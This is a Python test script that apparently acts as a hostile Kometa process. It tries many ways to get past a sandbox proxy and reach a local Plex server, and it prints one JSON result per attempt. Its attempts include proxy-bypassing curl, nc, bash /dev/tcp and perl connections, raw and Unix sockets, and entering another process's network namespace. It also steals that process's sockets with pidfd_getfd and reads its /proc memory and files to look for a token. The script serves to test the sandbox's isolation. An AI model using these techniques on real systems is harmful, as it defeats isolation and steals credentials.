"""Plays a Kometa that tries every way round the proxy. Usage: hostile.py SPEC.json; prints one JSON object per attempt.

It aims at listeners of the test on this machine only. What it says of itself is for the table: what counts is what the
listeners saw.
"""
import base64
import ctypes
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import urllib.request

SPEC = json.load(open(sys.argv[1]))
PORT = SPEC["plexPort"]
TIMEOUT_S = 3
# The marker is encoded, or the search below would find it in the specification.
MARKER = base64.b64decode(SPEC["marker"])
LIBC = ctypes.CDLL(None, use_errno=True)


def request(name):
    token = SPEC["token"] or "no-token-found"
    return (f"PUT /library/metadata/101/hostile-{name}?X-Plex-Token={token} HTTP/1.1\r\n"
            f"Host: 127.0.0.1:{PORT}\r\nConnection: close\r\n\r\n").encode()


def tcp(name, family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(TIMEOUT_S)
        s.connect(address)
        s.sendall(request(name))
        return s.recv(200).decode("latin1").split("\r\n")[0]


def run(*command, env=None, stdin=None):
    if shutil.which(command[0]) is None:
        return "not installed"
    done = subprocess.run(command, env=env, input=stdin, capture_output=True, timeout=10)
    return (done.stdout or done.stderr).decode("latin1").strip().split("\n")[-1][:120]


def child(name):
    return (f"import socket; s = socket.create_connection(('127.0.0.1', {PORT}), {TIMEOUT_S}); "
            f"s.sendall({request(name)!r}); print(s.recv(200))")


def v4(name):
    return tcp(name, socket.AF_INET, ("127.0.0.1", PORT))


def v4_other_loopback(name):
    return tcp(name, socket.AF_INET, ("127.0.0.1", SPEC["otherPort"]))


def v6(name):
    return tcp(name, socket.AF_INET6, ("::1", PORT))


def v4_mapped(name):
    return tcp(name, socket.AF_INET6, ("::ffff:127.0.0.1", PORT))


def by_name(name):
    with socket.create_connection(("localhost", PORT), TIMEOUT_S) as s:
        s.sendall(request(name))
        return s.recv(200)[:40].decode("latin1")


def requests_without_env(name):
    try:
        import requests
    except ImportError:
        return "not installed"
    session = requests.Session()
    session.trust_env = False
    return str(session.put(f"http://127.0.0.1:{PORT}/hostile-{name}", timeout=TIMEOUT_S).status_code)


def urllib_without_proxy(name):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    call = urllib.request.Request(f"http://127.0.0.1:{PORT}/hostile-{name}", method="PUT")
    return str(opener.open(call, timeout=TIMEOUT_S).status)


def curl(name):
    return run("curl", "-sS", "--noproxy", "*", "-m", "3", "-X", "PUT", f"http://127.0.0.1:{PORT}/hostile-{name}")


def netcat(name):
    return run("nc", "-w", "3", "127.0.0.1", str(PORT), stdin=request(name))


def bash_dev_tcp(name):
    line = request(name).decode().replace("\r\n", "\\r\\n")
    return run("timeout", "3", "bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{PORT}; printf '{line}' >&3; head -n1 <&3")


def perl(name):
    connect = f"$s=IO::Socket::INET->new('127.0.0.1:{PORT}') or die $!"
    send = f"print $s 'PUT /hostile-{name} HTTP/1.0'.\"\\r\\n\\r\\n\""
    return run("perl", "-MIO::Socket::INET", "-e", f"{connect}; {send}; print scalar <$s>")


def isolated_python(name):
    return run(sys.executable, "-I", "-c", child(name))


def cleared_environment(name):
    return run(sys.executable, "-c", child(name), env={})


def new_session(name):
    done = subprocess.run([sys.executable, "-c", child(name)], capture_output=True, timeout=10, start_new_session=True)
    return (done.stdout or done.stderr).decode().strip().split("\n")[-1][:120]


def udp(name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(request(name), ("127.0.0.1", SPEC["udpPort"]))
        return "sent"


def raw_socket(name):
    data = request(name)
    header = struct.pack("!HHHH", 40000, SPEC["udpPort"], 8 + len(data), 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
        s.sendto(header + data, ("127.0.0.1", 0))
        return "sent"


def unix_path(name):
    return tcp(name, socket.AF_UNIX, SPEC["unixPath"])


def unix_abstract(name):
    address = "\0" + SPEC["abstractName"]
    try:
        return tcp(name, socket.AF_UNIX, address)
    except OSError:
        # Older versions of Node listen on the name padded to its full length.
        return tcp(name, socket.AF_UNIX, address.ljust(108, "\0"))


def through_gate(line, then):
    proxy = urllib.request.urlparse(os.environ["HTTPS_PROXY"])
    basic = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    head = f"{line} HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\nProxy-Authorization: Basic {basic}\r\n\r\n"
    with socket.create_connection((proxy.hostname, proxy.port), TIMEOUT_S) as s:
        s.sendall(head.encode())
        answer = s.recv(200).decode("latin1").split("\r\n")[0]
        if " 200 " in answer:
            s.sendall(then)
        return answer


def gate_connect(name):
    return through_gate(f"CONNECT 127.0.0.1:{PORT}", request(name))


def gate_plain(name):
    return through_gate(f"PUT http://localhost:{PORT}/hostile-{name}", b"")


def enter_namespace(name):
    fd = os.open(f"/proc/{SPEC['toolPid']}/ns/net", os.O_RDONLY)
    if LIBC.setns(fd, 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return v4(name)


def nsenter(name):
    return run("nsenter", "-t", str(SPEC["toolPid"]), "-n", sys.executable, "-I", "-c", child(name))


def steal_socket(name):
    """pidfd_open and pidfd_getfd: the tool's own connections to Plex, if it can be looked into."""
    pidfd = LIBC.syscall(434, SPEC["toolPid"], 0)
    stolen = 0
    for fd in range(3, 200):
        taken = LIBC.syscall(438, pidfd, fd, 0)
        if taken < 0:
            if ctypes.get_errno() == 1:
                raise PermissionError(1, "pidfd_getfd")
            continue
        try:
            s = socket.socket(fileno=taken)
            if s.type == socket.SOCK_STREAM and s.getpeername()[1] == PORT:
                stolen += 1
                s.settimeout(TIMEOUT_S)
                s.sendall(request(name))
        except (OSError, IndexError, TypeError):
            pass
    return f"{stolen} stolen"


def read_memory(name):
    """The real token is in the tool's memory alone."""
    with open(f"/proc/{SPEC['toolPid']}/environ", "rb") as f:
        f.read()
    found = 0
    with open(f"/proc/{SPEC['toolPid']}/maps") as maps, open(f"/proc/{SPEC['toolPid']}/mem", "rb", 0) as memory:
        for line in maps:
            start, end, mode = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\S+)", line).groups()
            if not mode.startswith("rw") or int(end, 16) - int(start, 16) > 1 << 28:
                continue
            try:
                memory.seek(int(start, 16))
                found += memory.read(int(end, 16) - int(start, 16)).count(MARKER)
            except (OSError, ValueError):
                continue
    return f"TOKEN: {found} times in the tool's memory" if found else "not found"


def search_files(name):
    """Everything that was given to Kometa: environment, arguments, the whole workspace."""
    hits = [key for key, value in os.environ.items() if MARKER.decode() in value]
    hits += [arg for arg in sys.argv if MARKER.decode() in arg]
    root = os.path.dirname(os.environ["HOME"])
    for folder, _, files in os.walk(root):
        for file in files:
            try:
                with open(os.path.join(folder, file), "rb") as f:
                    if MARKER in f.read():
                        hits.append(file)
            except OSError:
                pass
    return f"TOKEN: {hits}" if hits else "not found"


ATTEMPTS = [v4, v6, v4_mapped, by_name, v4_other_loopback, requests_without_env, urllib_without_proxy, curl, netcat,
            bash_dev_tcp, perl, isolated_python, cleared_environment, new_session, udp, raw_socket, unix_path,
            unix_abstract, gate_connect, gate_plain, nsenter, steal_socket, read_memory, search_files, enter_namespace]

for attempt in ATTEMPTS:
    try:
        says = attempt(attempt.__name__)
    except Exception as error:
        says = f"{type(error).__name__}: {error}"
    print("HOSTILE " + json.dumps({"name": attempt.__name__, "says": str(says)[:120]}), flush=True)
